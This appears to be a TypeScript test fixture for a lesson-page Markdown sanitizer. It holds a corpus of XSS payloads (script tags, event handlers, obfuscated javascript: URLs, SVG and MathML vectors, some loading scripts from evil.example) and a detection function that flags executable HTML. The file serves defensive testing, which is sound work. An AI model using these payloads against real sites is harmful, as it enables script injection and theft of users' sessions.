/**
 * Markdown and HTML that try to run script in a lesson page, including ways around the
 * uploads-only image rule: rendered directly by src/modules/courses/lesson-markdown.spec.ts and
 * sent through the authoring API by courses.test.ts.
 */
export const XSS_CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '![pixel](data:image/png;base64,iVBORw0KGgo=)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/x.png "onerror=alert(1)")',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](jav&#x09;ascript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '<javascript:alert(1)>',
  '[x][ref]\n\n[ref]: javascript:alert(1)',
  '[x](<javascript:alert(1)>)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div class="table-wrapper" style="position:fixed;inset:0">overlay</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<x onmouseover=alert(1)>hover</x>',
  '<body onload=alert(1)>',
  '## <script>alert(1)</script> heading',
  '## heading {onclick=alert(1)}',
  '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '> <iframe src="javascript:alert(1)"></iframe>',
  '- <a href="javascript:alert(1)">in a list</a>',
  '<!-- --><script>alert(1)</script><!-- -->',
  '<div><a href="javascript:alert(1)">nested</a></div>',
  '![x](/api/uploads/../../evil.svg)',
  '![x](/api/uploads/0123456789abcdef0123456789abcdef.svg)',
  '![x](//evil.example/api/uploads/0123456789abcdef0123456789abcdef.png)',
  '<img src="/api/uploads/0123456789abcdef0123456789abcdef.png" onerror="alert(1)">',
];

const FORBIDDEN_TAGS = /^(script|svg|iframe|object|embed|math|style|link|meta|base|form|input|button|template|frame|frameset|noscript)$/i;

// Browsers ignore spaces and control characters in a URL's scheme: so does the check below.
// eslint-disable-next-line no-control-regex -- the control characters are the point
const URL_ESCAPES_AND_CONTROLS = /&#x?[0-9a-f]+;?|&colon;|&tab;|&newline;|[\s\u0000-\u001f]/gi;
// eslint-disable-next-line no-control-regex -- as above
const URL_SPACE_AND_CONTROLS = /[\s\u0000-\u001f]/g;

/**
 * What in `html` could execute: real tags only (escaped text such as `&lt;img onerror=…&gt;` is
 * inert and shown as text). Answers one line per problem; empty means inert.
 */
export function executableProblems(html: string): string[] {
  const problems: string[] = [];
  if (/<\s*\/?\s*script/i.test(html)) problems.push('a <script> tag');
  for (const match of html.matchAll(/<\s*([a-zA-Z][a-zA-Z0-9:-]*)([^>]*)>/g)) {
    const [tag, name, attributes] = match as unknown as [string, string, string];
    if (FORBIDDEN_TAGS.test(name)) problems.push(`a <${name}> tag: ${tag}`);
    if (/(^|\s)on\w+\s*=/i.test(attributes)) problems.push(`an event handler attribute: ${tag}`);
    if (/\sstyle\s*=/i.test(attributes)) problems.push(`a style attribute: ${tag}`);
    for (const url of attributes.matchAll(/(?:href|src|action|formaction|xlink:href|srcdoc)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/gi)) {
      const value = (url[1] ?? url[2] ?? url[3] ?? '')
        .replace(URL_ESCAPES_AND_CONTROLS, (e) => {
          if (/^&colon;$/i.test(e)) return ':';
          const n = /^&#(x?)([0-9a-f]+);?$/i.exec(e);
          return n ? String.fromCharCode(parseInt(n[2]!, n[1] ? 16 : 10)) : '';
        })
        .replace(URL_SPACE_AND_CONTROLS, '');
      if (/^(javascript|vbscript|data):/i.test(value)) problems.push(`a ${value.split(':')[0]}: URL: ${tag}`);
    }
    if (name.toLowerCase() === 'img' && !/\ssrc="\/api\/uploads\/[a-f0-9]{32}\.(png|jpg|webp|gif)"/.test(attributes))
      problems.push(`an image not from our uploads: ${tag}`);
  }
  return problems;
}
